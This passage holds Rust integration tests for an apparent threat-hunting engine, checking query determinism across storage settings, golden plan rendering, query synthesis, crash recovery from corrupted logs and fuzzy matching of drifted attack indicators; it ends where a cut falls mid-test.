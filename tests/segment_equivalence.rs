//! Columnar-plane determinism: segment capacity is never observable.
//!
//! The columnar storage plane (typed segment vectors, per-segment zone
//! maps, selection-vector predicate kernels) partitions every table into
//! fixed-capacity row segments. Capacity is a purely physical knob — it
//! moves segment boundaries, changes which zone maps exist and which
//! segments prune, and changes how scans partition across workers — but it
//! must never change a query result. This suite pins that contract over
//! the shared 8-query corpus:
//!
//! * segment capacities {1, 7, 4096} — one row per segment (every zone map
//!   degenerate), a prime that misaligns with every batch size, and the
//!   production default where small tables are a single segment,
//! * thread counts {1, 4} — capacity interacts with scan partitioning, so
//!   each capacity is exercised on both the sequential and pooled paths,
//! * both backend forms — event-pattern (relational, the columnar store
//!   under test) and length-1 path (graph, which must simply ignore the
//!   knob),
//! * both store builds — bulk-loaded and stream-grown epoch-by-epoch,
//!   since segments fill incrementally on the streaming write path.

use std::cell::RefCell;

use proptest::prelude::*;
use threatraptor::engine::exec::{to_length1_path_query, ExecMode};
use threatraptor::engine::load::load;
use threatraptor::engine::Engine;
use threatraptor::stream::{EpochPolicy, EpochStream, StreamSession};
use threatraptor::tbql::print::print_query;

const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;
const CAPACITIES: &[usize] = &[1, 7, 4096];
const THREADS: &[usize] = &[1, 4];

struct Fixture {
    bulk: RefCell<Engine>,
    streamed: RefCell<StreamSession>,
}

thread_local! {
    /// Built once per test thread — the properties only repartition and
    /// read the stores.
    static FIXTURE: Fixture = {
        let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
        let built = raptor_cases::build_case(spec, 0.2, 99);
        let bulk = Engine::new(load(&built.log).unwrap());
        let mut session = StreamSession::new().unwrap();
        for batch in EpochStream::new(&built.log, EpochPolicy::ByCount(64)) {
            session.ingest_batch(&batch).unwrap();
        }
        Fixture { bulk: RefCell::new(bulk), streamed: RefCell::new(session) }
    };
}

fn run(engine: &Engine, tbql: &str) -> Vec<Vec<String>> {
    let (table, _) = engine.execute_text(tbql, ExecMode::Scheduled).unwrap();
    table.sorted_rows()
}

/// Executes `tbql` on both store builds at every (capacity × threads)
/// point and asserts byte-identical `sorted_rows()` against the
/// (default-capacity, 1-thread) reference.
fn assert_segment_capacity_invisible(tbql: &str) {
    FIXTURE.with(|fx| {
        let bulk_at = |cap: usize, t: usize| {
            let mut e = fx.bulk.borrow_mut();
            e.set_segment_rows(cap);
            e.set_threads(t);
            run(&e, tbql)
        };
        let streamed_at = |cap: usize, t: usize| {
            let mut s = fx.streamed.borrow_mut();
            s.set_segment_rows(cap);
            s.set_threads(t);
            run(s.engine(), tbql)
        };
        let (bulk_ref, streamed_ref) = (bulk_at(4096, 1), streamed_at(4096, 1));
        for &cap in CAPACITIES {
            for &t in THREADS {
                assert_eq!(
                    bulk_at(cap, t),
                    bulk_ref,
                    "bulk store diverged at capacity {cap}, {t} threads for: {tbql}"
                );
                assert_eq!(
                    streamed_at(cap, t),
                    streamed_ref,
                    "streamed store diverged at capacity {cap}, {t} threads for: {tbql}"
                );
            }
        }
        // Leave the shared fixture at production defaults for other cases.
        fx.bulk.borrow_mut().set_segment_rows(4096);
        fx.streamed.borrow_mut().set_segment_rows(4096);
    });
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Any corpus query, either backend form: identical `sorted_rows()` at
    /// every segment capacity and thread count, on both store builds.
    #[test]
    fn segment_capacity_is_never_observable(case_idx in 0usize..16) {
        let q = QUERIES[case_idx % QUERIES.len()];
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        // First half: event-pattern form (relational backend); second
        // half: length-1 path form (graph backend).
        let text = if case_idx < QUERIES.len() {
            print_query(&parsed)
        } else {
            print_query(&to_length1_path_query(&parsed))
        };
        assert_segment_capacity_invisible(&text);
    }
}

/// Giant-SQL execution exercises the vectorized scan and columnar
/// projection paths that the scheduled planner's index lookups bypass —
/// pin those against capacity too.
#[test]
fn giant_sql_is_capacity_invariant() {
    FIXTURE.with(|fx| {
        for &q in QUERIES {
            let reference = {
                let mut e = fx.bulk.borrow_mut();
                e.set_segment_rows(4096);
                let (t, _) = e.execute_text(q, ExecMode::GiantSql).unwrap();
                t.sorted_rows()
            };
            for &cap in CAPACITIES {
                let mut e = fx.bulk.borrow_mut();
                e.set_segment_rows(cap);
                let (t, _) = e.execute_text(q, ExecMode::GiantSql).unwrap();
                assert_eq!(
                    t.sorted_rows(),
                    reference,
                    "giant SQL diverged at capacity {cap} for: {q}"
                );
            }
        }
        fx.bulk.borrow_mut().set_segment_rows(4096);
    });
}
