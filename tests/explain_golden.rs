//! Golden EXPLAIN / EXPLAIN ANALYZE trees — plan rendering is part of the
//! determinism contract.
//!
//! `tests/golden/corpus_explain.txt` pins the EXPLAIN and stable-redacted
//! EXPLAIN ANALYZE trees for the 8-query equivalence corpus (regenerate with
//! `cargo run --release -p raptor-bench --bin golden_explain`). This suite
//! asserts the rendering stays byte-identical across worker counts and
//! columnar segment capacities: the plan (scheduler choice, order, seeds,
//! estimates) and the stable actuals (rows, Q-error, access path, index/full
//! scan counts) must not depend on how the work was partitioned. Volatile
//! fields (wall times, scan granularity counters) are redacted to `~` by
//! `Redact::Stable` and carry no bytes to disagree on.

use raptor_bench::corpus::{corpus_system, EQUIV_CORPUS};
use raptor_engine::Redact;
use std::fmt::Write as _;

fn render_all(raptor: &threatraptor::ThreatRaptor) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "# Golden EXPLAIN / EXPLAIN ANALYZE (Redact::Stable) trees for the\n\
         # equivalence corpus. Regenerate with:\n\
         #   cargo run --release -p raptor-bench --bin golden_explain\n\
         # Byte-identical across RAPTOR_THREADS and RAPTOR_SEGMENT_ROWS."
    );
    for (i, q) in EQUIV_CORPUS.iter().enumerate() {
        let _ = writeln!(out, "query {i}: {q}");
        out.push_str(&raptor.explain(q).unwrap());
        let (_, report) = raptor.explain_analyze(q, Redact::Stable).unwrap();
        out.push_str(&report);
    }
    out
}

#[test]
fn golden_corpus_explain() {
    let golden = include_str!("golden/corpus_explain.txt");
    let mut raptor = corpus_system();
    for threads in [1usize, 4] {
        for segment_rows in [7usize, 4096] {
            raptor.set_threads(threads);
            raptor.set_segment_rows(segment_rows);
            let got = render_all(&raptor);
            assert_eq!(
                got, golden,
                "EXPLAIN rendering diverged from golden at threads={threads} \
                 segment_rows={segment_rows}"
            );
        }
    }
}

/// Plain EXPLAIN never executes patterns: rendering a plan twice is
/// idempotent and leaves no trace of execution in the stats it reports.
#[test]
fn explain_is_pure() {
    let raptor = corpus_system();
    for q in EQUIV_CORPUS {
        let a = raptor.explain(q).unwrap();
        let b = raptor.explain(q).unwrap();
        assert_eq!(a, b);
    }
}
