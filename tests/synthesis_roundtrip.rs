//! Synthesis round-trips: every benchmark case's synthesized query prints,
//! reparses, analyzes, and compiles to all backends; the printer/parser
//! round-trip also holds property-style over the case corpus.

use raptor_cases::all_cases;
use threatraptor::engine::compile::{giant_cypher, giant_sql, CompileCtx};
use threatraptor::tbql::print::print_query;
use threatraptor::tbql::{analyze, parse_tbql};
use threatraptor::{synthesize, SynthesisPlan};

#[test]
fn every_case_synthesizes_and_roundtrips() {
    for case in all_cases() {
        let out = threatraptor::extract::extract(case.report);
        let q = synthesize(&out.graph, &SynthesisPlan::default())
            .unwrap_or_else(|e| panic!("{}: {e}", case.id));
        let text = print_query(&q);
        let reparsed = parse_tbql(&text).unwrap_or_else(|e| panic!("{}: {e}\n{text}", case.id));
        assert_eq!(q, reparsed, "{}: printer/parser round-trip", case.id);
        let aq = analyze(&reparsed).unwrap_or_else(|e| panic!("{}: {e}\n{text}", case.id));
        // Compiles into both giant forms.
        let ctx = CompileCtx { aq: &aq, now_ns: 0, dict: threatraptor::common::SharedDict::new() };
        let sql = giant_sql(&ctx).unwrap_or_else(|e| panic!("{}: {e}", case.id));
        threatraptor::relstore::sql::parse_select(&sql)
            .unwrap_or_else(|e| panic!("{}: giant SQL invalid: {e}\n{sql}", case.id));
        let cy = giant_cypher(&ctx).unwrap_or_else(|e| panic!("{}: {e}", case.id));
        threatraptor::graphstore::cypher::parse_cypher(&cy)
            .unwrap_or_else(|e| panic!("{}: giant Cypher invalid: {e}\n{cy}", case.id));
    }
}

#[test]
fn path_plan_synthesizes_for_every_case() {
    let plan = SynthesisPlan { use_path_patterns: true, ..Default::default() };
    for case in all_cases() {
        let out = threatraptor::extract::extract(case.report);
        let q = synthesize(&out.graph, &plan).unwrap_or_else(|e| panic!("{}: {e}", case.id));
        assert!(q.relations.is_empty(), "{}: paths carry no temporal chain", case.id);
        let text = print_query(&q);
        analyze(&parse_tbql(&text).unwrap()).unwrap_or_else(|e| panic!("{}: {e}\n{text}", case.id));
    }
}

#[test]
fn synthesized_queries_preserve_sequence_order() {
    // The `with` chain must follow the threat behavior graph's sequence
    // numbers (Step 3 of synthesis).
    for case in all_cases() {
        let out = threatraptor::extract::extract(case.report);
        let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
        for (i, rel) in q.relations.iter().enumerate() {
            match rel {
                threatraptor::tbql::RelClause::Temporal { left, op, right, .. } => {
                    assert_eq!(*op, threatraptor::tbql::TemporalOp::Before, "{}", case.id);
                    assert_eq!(left, &format!("evt{}", i + 1), "{}", case.id);
                    assert_eq!(right, &format!("evt{}", i + 2), "{}", case.id);
                }
                other => panic!("{}: unexpected relation {other:?}", case.id),
            }
        }
    }
}

#[test]
fn screening_never_leaks_unauditable_iocs() {
    for case in all_cases() {
        let out = threatraptor::extract::extract(case.report);
        let Ok(q) = synthesize(&out.graph, &SynthesisPlan::default()) else { continue };
        let text = print_query(&q);
        for (ioc, ty) in case.gt_entities {
            use raptor_extract::IocType::*;
            if matches!(ty, Domain | Url | Email | Hash | Cve | Registry) {
                assert!(!text.contains(ioc), "{}: {ioc} leaked into query\n{text}", case.id);
            }
        }
    }
}
