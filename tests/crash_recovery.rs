//! Fault-injected crash recovery.
//!
//! The durability plane's acceptance property: crash the durable session at
//! **any byte offset** of its write stream — mid entity/event record, mid
//! epoch commit, mid checkpoint, post-fsync — then recover from what
//! survived on "disk" and re-deliver the stream from the beginning. The
//! recovered store must be indistinguishable from a one-shot bulk load:
//! every corpus query answers byte-identically on both backends, at any
//! thread count and any segment capacity, and idempotent re-delivery never
//! double-appends.
//!
//! Alongside the property: corrupt-input hardening (bit-flipped, truncated,
//! zero-length WAL and checkpoint files yield typed errors or clean
//! tail-discard — never a panic), mirroring `tests/fuzzy_recovery.rs`.

use std::sync::Arc;

use proptest::prelude::*;
use threatraptor::common::io::{FailpointFs, Fs, MemFs};
use threatraptor::engine::exec::ExecMode;
use threatraptor::engine::load::load;
use threatraptor::engine::{Engine, ResultTable, CKPT_FILE, WAL_FILE};
use threatraptor::stream::{EpochPolicy, EpochStream};
use threatraptor::{DurablePolicy, DurableSession};

use raptor_audit::ParsedLog;

/// The shared 8-query equivalence corpus (same fragment as the
/// backend/streaming equivalence suites).
const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;

/// Opens (or recovers) a durable session over `fs`, registers whatever
/// corpus queries recovery did not already restore, and delivers the whole
/// stream from epoch 0 — relying on the dedupe seam to skip epochs the
/// session already committed. Any error is surfaced (a tripped failpoint
/// aborts here, playing the crash).
fn drive(
    fs: Arc<dyn Fs>,
    log: &ParsedLog,
    epoch_size: usize,
    policy: DurablePolicy,
    threads: usize,
    seg_rows: usize,
) -> threatraptor::common::error::Result<DurableSession> {
    let mut s = DurableSession::open(fs, policy)?;
    s.set_threads(threads);
    s.set_segment_rows(seg_rows);
    for (i, q) in QUERIES.iter().enumerate() {
        let name = format!("q{i}");
        if !s.session().queries().iter().any(|sq| sq.name() == name) {
            s.register(&name, q)?;
        }
    }
    for batch in EpochStream::new(log, EpochPolicy::ByCount(epoch_size)) {
        s.ingest_batch(&batch)?;
    }
    Ok(s)
}

/// The recovered store answers the whole corpus — event-pattern form on
/// both backends — byte-identically to the bulk-loaded reference, and each
/// standing query's recovered cumulative state equals the batch result.
fn assert_recovered_equals_bulk(recovered: &DurableSession, bulk: &Engine, ctx: &str) {
    let eng = recovered.engine();
    assert_eq!(eng.stores.rel.total_rows(), bulk.stores.rel.total_rows(), "{ctx}");
    assert_eq!(eng.stores.graph.node_count(), bulk.stores.graph.node_count(), "{ctx}");
    assert_eq!(eng.stores.graph.edge_count(), bulk.stores.graph.edge_count(), "{ctx}");
    assert_eq!(eng.stores.now_ns, bulk.stores.now_ns, "{ctx}: watermark");
    // Stream interleaves entity/event interning while bulk loads entities
    // first, so dictionaries differ; compare the canonical stats view.
    assert_eq!(
        eng.stores.rel.store_stats().canonical(),
        bulk.stores.rel.store_stats().canonical(),
        "{ctx}: stats"
    );
    for (i, q) in QUERIES.iter().enumerate() {
        let (want, _) = bulk.execute_text(q, ExecMode::Scheduled).unwrap();
        let (got, _) = eng.execute_text(q, ExecMode::Scheduled).unwrap();
        assert_eq!(got.sorted_rows(), want.sorted_rows(), "{ctx}: query {q}");

        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let path_q = threatraptor::tbql::print::print_query(
            &threatraptor::engine::exec::to_length1_path_query(&parsed),
        );
        let (got_p, _) = eng.execute_text(&path_q, ExecMode::Scheduled).unwrap();
        assert_eq!(got_p.sorted_rows(), want.sorted_rows(), "{ctx}: path query {path_q}");

        let standing = recovered
            .session()
            .queries()
            .iter()
            .find(|sq| sq.name() == format!("q{i}"))
            .expect("corpus query registered");
        let cumulative = ResultTable::from_batch(&standing.cumulative_batch());
        assert_eq!(cumulative.sorted_rows(), want.sorted_rows(), "{ctx}: standing {q}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Property: for any case, any epoch size, any checkpoint cadence, any
    /// thread count, any segment capacity, and a crash at **any byte
    /// offset** of the durable write stream, recovery + idempotent
    /// re-delivery converges to exactly the bulk-loaded store.
    #[test]
    fn crash_anywhere_then_recover_equals_bulk(
        case_idx in 0usize..18,
        epoch_size in 4usize..160,
        ckpt_every in 0u64..4,
        crash_frac in 0.0f64..1.0,
        knobs in 0usize..4,
    ) {
        let cases = raptor_cases::all_cases();
        let spec = cases[case_idx % cases.len()];
        let built = raptor_cases::build_case(spec, 0.05, 1234);
        let policy = DurablePolicy { checkpoint_every: ckpt_every };
        let threads = if knobs & 1 == 1 { 4 } else { 1 };
        let seg_rows = if knobs & 2 == 2 { 7 } else { 4096 };
        let ctx = format!(
            "{} epoch={epoch_size} ckpt={ckpt_every} threads={threads} seg={seg_rows}",
            spec.id
        );

        // Calibrate: one clean run to learn the total bytes written.
        let calib = Arc::new(FailpointFs::new(Arc::new(MemFs::new())));
        drive(calib.clone(), &built.log, epoch_size, policy, threads, seg_rows).unwrap();
        let total = calib.bytes_written();
        prop_assert!(total > 0);

        // Crash run: the same workload with a byte budget that trips at a
        // proptest-chosen offset; everything past it is torn/dead.
        let disk = Arc::new(MemFs::new());
        let fp = Arc::new(FailpointFs::new(disk.clone()));
        fp.crash_after_bytes(((total as f64) * crash_frac) as u64);
        let crashed = drive(fp.clone(), &built.log, epoch_size, policy, threads, seg_rows);
        prop_assert!(crashed.is_err() || !fp.crashed(), "budget hit must surface as error");
        drop(crashed);

        // Recover from the surviving disk image and re-deliver everything.
        let recovered =
            drive(disk, &built.log, epoch_size, policy, threads, seg_rows).unwrap();
        prop_assert_eq!(
            recovered.epochs() as usize,
            EpochStream::new(&built.log, EpochPolicy::ByCount(epoch_size)).count(),
            "{}", &ctx
        );

        let mut bulk = Engine::new(load(&built.log).unwrap());
        bulk.set_threads(threads);
        bulk.set_segment_rows(seg_rows);
        assert_recovered_equals_bulk(&recovered, &bulk, &ctx);
    }
}

fn sample_disk() -> (Arc<MemFs>, u64) {
    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let built = raptor_cases::build_case(spec, 0.05, 1234);
    let disk = Arc::new(MemFs::new());
    let mut s = DurableSession::open(disk.clone(), DurablePolicy { checkpoint_every: 0 }).unwrap();
    s.register("hunt", QUERIES[0]).unwrap();
    let batches: Vec<_> = EpochStream::new(&built.log, EpochPolicy::ByCount(32)).collect();
    let half = batches.len() / 2;
    for b in &batches[..half] {
        s.ingest_batch(b).unwrap();
    }
    s.checkpoint().unwrap();
    for b in &batches[half..] {
        s.ingest_batch(b).unwrap();
    }
    let epochs = s.epochs();
    (disk, epochs)
}

/// A crash *inside* checkpoint() must leave the previous durable state
/// fully recoverable: the old checkpoint survives the torn replace and the
/// WAL is never truncated without a new checkpoint in place.
#[test]
fn crash_mid_checkpoint_keeps_old_state() {
    let (disk, epochs) = sample_disk();
    let before_ckpt = disk.snapshot(CKPT_FILE);
    let fp = Arc::new(FailpointFs::new(disk.clone()));
    let mut s = DurableSession::open(fp.clone(), DurablePolicy { checkpoint_every: 0 }).unwrap();
    fp.crash_after_bytes(64);
    assert!(s.checkpoint().is_err(), "failpoint must trip inside checkpoint");
    drop(s);

    assert_eq!(disk.snapshot(CKPT_FILE), before_ckpt, "old checkpoint must survive");
    let recovered = DurableSession::open(disk, DurablePolicy { checkpoint_every: 0 }).unwrap();
    assert_eq!(recovered.epochs(), epochs);
    assert_eq!(recovered.recovery_report().registrations_recovered, 1);
}

/// Truncating the WAL at every prefix length is *tolerated*: open succeeds,
/// the torn tail is discarded, and the session resumes at the last durable
/// point it can still prove. Never a panic, never a corrupted store.
#[test]
fn truncated_wal_always_recovers() {
    let (disk, epochs) = sample_disk();
    let wal = disk.snapshot(WAL_FILE);
    assert!(!wal.is_empty(), "fixture must leave a WAL tail");
    let step = (wal.len() / 40).max(1);
    for cut in (0..=wal.len()).step_by(step) {
        let fs = Arc::new(MemFs::new());
        fs.store(CKPT_FILE, disk.snapshot(CKPT_FILE));
        fs.store(WAL_FILE, wal[..cut].to_vec());
        let s = DurableSession::open(fs, DurablePolicy { checkpoint_every: 0 })
            .unwrap_or_else(|e| panic!("cut at {cut}: {e}"));
        assert!(s.epochs() <= epochs);
        assert!(s.epochs() >= s.recovery_report().checkpoint_epochs);
    }
}

/// Bit-flipping any sampled byte of the WAL is tolerated the same way: the
/// checksum rejects the record and everything from it on is discarded as
/// the torn tail — epochs before the flip survive, and re-delivery heals
/// the rest.
#[test]
fn bitflipped_wal_discards_from_flip() {
    let (disk, epochs) = sample_disk();
    let wal = disk.snapshot(WAL_FILE);
    let step = (wal.len() / 25).max(1);
    for pos in (0..wal.len()).step_by(step) {
        for bit in [0u8, 7] {
            let mut flipped = wal.clone();
            flipped[pos] ^= 1 << bit;
            let fs = Arc::new(MemFs::new());
            fs.store(CKPT_FILE, disk.snapshot(CKPT_FILE));
            fs.store(WAL_FILE, flipped);
            let s = DurableSession::open(fs, DurablePolicy { checkpoint_every: 0 })
                .unwrap_or_else(|e| panic!("flip at {pos}.{bit}: {e}"));
            assert!(s.epochs() <= epochs, "flip at {pos}.{bit}");
        }
    }
}

/// The facade path over a real directory: `ThreatRaptor::open` against a
/// `RAPTOR_WAL_DIR`-rooted temp dir, incremental appends, checkpoint,
/// re-open — the recovered system answers the corpus like the original.
/// (CI points `RAPTOR_WAL_DIR` at the runner's temp dir; locally this
/// falls back to the system temp dir.)
#[test]
fn facade_open_recovers_from_disk() {
    use threatraptor::common::io::test_wal_dir;
    use threatraptor::ThreatRaptor;

    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let built = raptor_cases::build_case(spec, 0.05, 1234);
    let dir = test_wal_dir("facade-open");

    let mut live = ThreatRaptor::open(&dir).expect("open empty dir");
    assert_eq!(live.recovery_report().unwrap().resumed_epoch, 0);
    let batches: Vec<_> = EpochStream::new(&built.log, EpochPolicy::ByCount(64)).collect();
    let half = batches.len() / 2;
    let d = live.durable_mut().expect("durable mode");
    for b in &batches[..half] {
        d.ingest_batch(b).unwrap();
    }
    live.checkpoint().expect("explicit checkpoint");
    let d = live.durable_mut().unwrap();
    for b in &batches[half..] {
        d.ingest_batch(b).unwrap();
    }
    drop(live);

    let reopened = ThreatRaptor::open(&dir).expect("recover from disk");
    let r = reopened.recovery_report().unwrap();
    assert!(r.checkpoint_found);
    assert_eq!(r.resumed_epoch, batches.len() as u64);
    let bulk = Engine::new(load(&built.log).unwrap());
    for q in QUERIES {
        let (want, _) = bulk.execute_text(q, ExecMode::Scheduled).unwrap();
        let (got, _) = reopened.engine().execute_text(q, ExecMode::Scheduled).unwrap();
        assert_eq!(got.sorted_rows(), want.sorted_rows(), "query {q}");
    }
    // Batch-loaded systems have nothing to persist to: typed error.
    let mut batch_sys = ThreatRaptor::from_log(&built.log).unwrap();
    assert!(batch_sys.recovery_report().is_none());
    assert!(batch_sys.checkpoint().is_err());
    std::fs::remove_dir_all(&dir).ok();
}

/// A **version-1** checkpoint — written before the path catalog and
/// frontier planes existed, so it carries no frontier state and no catalog
/// digest — still restores cleanly end-to-end: recovery resumes at the
/// checkpointed epoch, the path cardinality catalog is rebuilt from the
/// replayed rows by construction (replay goes through the same write
/// seam), standing-query frontiers rebuild lazily, and re-delivery
/// converges to exactly the bulk-loaded store.
#[test]
fn v1_checkpoint_restores_and_rebuilds_catalog() {
    use threatraptor::engine::checkpoint::{encode_versioned, SessionMeta, StandingSnap};
    use threatraptor::stream::StreamSession;

    let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
    let built = raptor_cases::build_case(spec, 0.05, 1234);
    let batches: Vec<_> = EpochStream::new(&built.log, EpochPolicy::ByCount(32)).collect();
    let half = batches.len() / 2;
    assert!(half > 0);

    // Play a previous release: stream half the epochs through a plain
    // session, then serialize its state at layout version 1.
    let mut session = StreamSession::new().unwrap();
    for (i, q) in QUERIES.iter().enumerate() {
        session.register(&format!("q{i}"), q).unwrap();
    }
    let mut arrival = Vec::new();
    for b in &batches[..half] {
        let r = session.ingest_batch(b).unwrap();
        arrival.push((r.entities_ingested as u64, r.events_ingested as u64));
    }
    let meta = SessionMeta {
        epochs: half as u64,
        now_ns: session.engine().stores.now_ns,
        total_ingest: Default::default(),
        arrival,
    };
    let snaps: Vec<StandingSnap<'_>> = session
        .queries()
        .iter()
        .zip(QUERIES)
        .map(|(q, text)| StandingSnap { name: q.name(), text, query: q })
        .collect();
    let v1 = encode_versioned(&session.engine().stores, &snaps, &meta, 1).unwrap();

    // Recover from the v1 image and re-deliver the whole stream; dedupe
    // skips the epochs the old release already committed.
    let fs = Arc::new(MemFs::new());
    fs.store(CKPT_FILE, v1);
    let recovered =
        drive(fs, &built.log, 32, DurablePolicy { checkpoint_every: 0 }, 1, 4096).unwrap();
    let report = recovered.recovery_report();
    assert!(report.checkpoint_found);
    assert_eq!(report.checkpoint_epochs, half as u64);
    assert_eq!(report.registrations_recovered, QUERIES.len() as u64);
    assert_eq!(recovered.epochs() as usize, batches.len());

    let mut bulk = Engine::new(load(&built.log).unwrap());
    bulk.set_threads(1);
    bulk.set_segment_rows(4096);
    assert_recovered_equals_bulk(&recovered, &bulk, "v1 restore");
    // The catalog was rebuilt purely from replayed + re-delivered rows
    // (v1 images carry no digest to check it against) and still matches
    // the bulk-loaded one on both backends.
    let eng = recovered.engine();
    for (name, got, want) in [
        ("relational", eng.stores.rel.store_stats(), bulk.stores.rel.store_stats()),
        ("graph", eng.stores.graph.store_stats(), bulk.stores.graph.store_stats()),
    ] {
        assert_eq!(
            got.catalog().canonical(&eng.stores.dict),
            want.catalog().canonical(&bulk.stores.dict),
            "{name} catalog after v1 restore"
        );
    }
}

/// A damaged *checkpoint* is a typed error — unlike the WAL tail there is
/// no valid prefix to fall back on, so recovery must refuse loudly rather
/// than serve a silently wrong store. Zero-length, truncated, and
/// bit-flipped images all fail cleanly; no input panics.
#[test]
fn corrupt_checkpoint_is_typed_error() {
    let (disk, _) = sample_disk();
    let ckpt = disk.snapshot(CKPT_FILE);
    assert!(!ckpt.is_empty());

    let open = |bytes: Vec<u8>| {
        let fs = Arc::new(MemFs::new());
        fs.store(CKPT_FILE, bytes);
        DurableSession::open(fs, DurablePolicy { checkpoint_every: 0 })
    };

    assert!(open(Vec::new()).is_err(), "zero-length checkpoint");
    let step = (ckpt.len() / 20).max(1);
    for cut in (0..ckpt.len()).step_by(step) {
        assert!(open(ckpt[..cut].to_vec()).is_err(), "truncated at {cut}");
    }
    for pos in (0..ckpt.len()).step_by(step) {
        for bit in [0u8, 6] {
            let mut flipped = ckpt.clone();
            flipped[pos] ^= 1 << bit;
            match open(flipped) {
                Err(err) => assert!(!err.to_string().is_empty(), "flip at {pos}.{bit}"),
                Ok(_) => panic!("bit flip at {pos}.{bit} must be detected"),
            }
        }
    }
}
