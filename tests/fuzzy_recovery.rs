//! Fuzzy-mode integration: when IOCs drift between report and logs, exact
//! search fails but the fuzzy mode recovers the attack — the paper's
//! recommended workflow (Section V, Limitations).

use raptor_cases::{all_cases, build_case};
use threatraptor::engine::fuzzy::FuzzyConfig;
use threatraptor::{synthesize, SynthesisPlan, ThreatRaptor};

/// tc_trace_4's C2 moved from .128 (report) to .143 (logs): exact search
/// misses the beacon, fuzzy still aligns the rest of the chain.
#[test]
fn trace4_drifted_c2_recovered_by_fuzzy() {
    let spec = all_cases().into_iter().find(|c| c.id == "tc_trace_4").unwrap();
    let built = build_case(spec, 0.1, 42);
    let raptor = ThreatRaptor::from_log(&built.log).unwrap();
    let out = threatraptor::extract::extract(spec.report);
    let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
    let text = threatraptor::tbql::print::print_query(&q);

    // Exact: the full conjunctive query finds nothing (beacon missing).
    let exact = raptor.query(&text).unwrap();
    assert!(exact.rows.is_empty());

    // Fuzzy: alignments exist (the write + the drifted entities align).
    let cfg = FuzzyConfig { accept_threshold: 0.3, ..Default::default() };
    let (fuzzy, _) = raptor.fuzzy_query(&text, &cfg).unwrap();
    assert!(!fuzzy.alignments.is_empty(), "fuzzy should align the remaining chain");
}

#[test]
fn poirot_returns_at_most_one_fuzzy_returns_all() {
    let spec = all_cases().into_iter().find(|c| c.id == "tc_theia_4").unwrap();
    let built = build_case(spec, 0.1, 42);
    let raptor = ThreatRaptor::from_log(&built.log).unwrap();
    let out = threatraptor::extract::extract(spec.report);
    let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
    let text = threatraptor::tbql::print::print_query(&q);

    let poirot_cfg = FuzzyConfig { exhaustive: false, ..Default::default() };
    let (poirot, _) = raptor.fuzzy_query(&text, &poirot_cfg).unwrap();
    let (fuzzy, _) = raptor.fuzzy_query(&text, &FuzzyConfig::default()).unwrap();
    assert!(poirot.alignments.len() <= 1);
    // theia_4 scans 420 files: the document node has hundreds of valid
    // alignments; exhaustive search must enumerate far more than one.
    assert!(
        fuzzy.alignments.len() > poirot.alignments.len(),
        "fuzzy {} vs poirot {}",
        fuzzy.alignments.len(),
        poirot.alignments.len()
    );
}

#[test]
fn budget_exhaustion_reports_timeout() {
    let spec = all_cases().into_iter().find(|c| c.id == "data_leak").unwrap();
    let built = build_case(spec, 0.1, 42);
    let raptor = ThreatRaptor::from_log(&built.log).unwrap();
    let out = threatraptor::extract::extract(spec.report);
    let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
    let text = threatraptor::tbql::print::print_query(&q);
    let cfg = FuzzyConfig { budget: std::time::Duration::from_nanos(1), ..Default::default() };
    let (outc, _) = raptor.fuzzy_query(&text, &cfg).unwrap();
    assert!(outc.timed_out);
}

#[test]
fn fuzzy_scores_rank_exact_match_first() {
    let spec = all_cases().into_iter().find(|c| c.id == "data_leak").unwrap();
    let built = build_case(spec, 0.1, 42);
    let raptor = ThreatRaptor::from_log(&built.log).unwrap();
    let out = threatraptor::extract::extract(spec.report);
    let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
    let text = threatraptor::tbql::print::print_query(&q);
    let cfg = FuzzyConfig { accept_threshold: 0.3, ..Default::default() };
    let (outc, _) = raptor.fuzzy_query(&text, &cfg).unwrap();
    assert!(!outc.alignments.is_empty());
    // Alignments come back best-first.
    for w in outc.alignments.windows(2) {
        assert!(w[0].score >= w[1].score);
    }
}
