//! End-to-end integration: for benchmark cases, the full pipeline (scenario
//! → extraction → synthesis → hunting) reproduces the Table V / VI shapes.

use raptor_cases::metrics::PrF1;
use raptor_cases::{all_cases, build_case};
use threatraptor::common::hash::FxHashSet;
use threatraptor::{synthesize, SynthesisPlan, ThreatRaptor};

/// Small noise scale keeps the suite fast; ground truth is noise-invariant.
const SCALE: f64 = 0.1;

fn hunt_counts(case_id: &str) -> (usize, usize, usize) {
    let spec = all_cases().into_iter().find(|c| c.id == case_id).unwrap();
    let built = build_case(spec, SCALE, 42);
    let raptor = ThreatRaptor::from_log(&built.log).unwrap();
    let out = threatraptor::extract::extract(spec.report);
    let q = synthesize(&out.graph, &SynthesisPlan::default()).unwrap();
    let aq = threatraptor::tbql::analyze(&q).unwrap();
    let matches = raptor.engine().pattern_event_matches(&aq).unwrap();
    let found: FxHashSet<i64> = matches.into_iter().flat_map(|(_, ids)| ids).collect();
    let tp = found.intersection(&built.gt_event_ids).count();
    (tp, found.len(), built.gt_event_ids.len())
}

#[test]
fn data_leak_reproduces_the_papers_6_of_8() {
    let (tp, found, gt) = hunt_counts("data_leak");
    assert_eq!((tp, found, gt), (6, 6, 8), "precision 6/6, recall 6/8");
}

#[test]
fn trace_1_loses_the_fork_only_starts() {
    let (tp, found, gt) = hunt_counts("tc_trace_1");
    assert_eq!((tp, found, gt), (39, 39, 76));
}

#[test]
fn fivedirections_3_finds_nothing_due_to_ioc_drift() {
    let (tp, found, gt) = hunt_counts("tc_fivedirections_3");
    assert_eq!((tp, found), (0, 0));
    assert_eq!(gt, 3);
}

#[test]
fn clean_cases_reach_full_recall() {
    for (id, expected) in
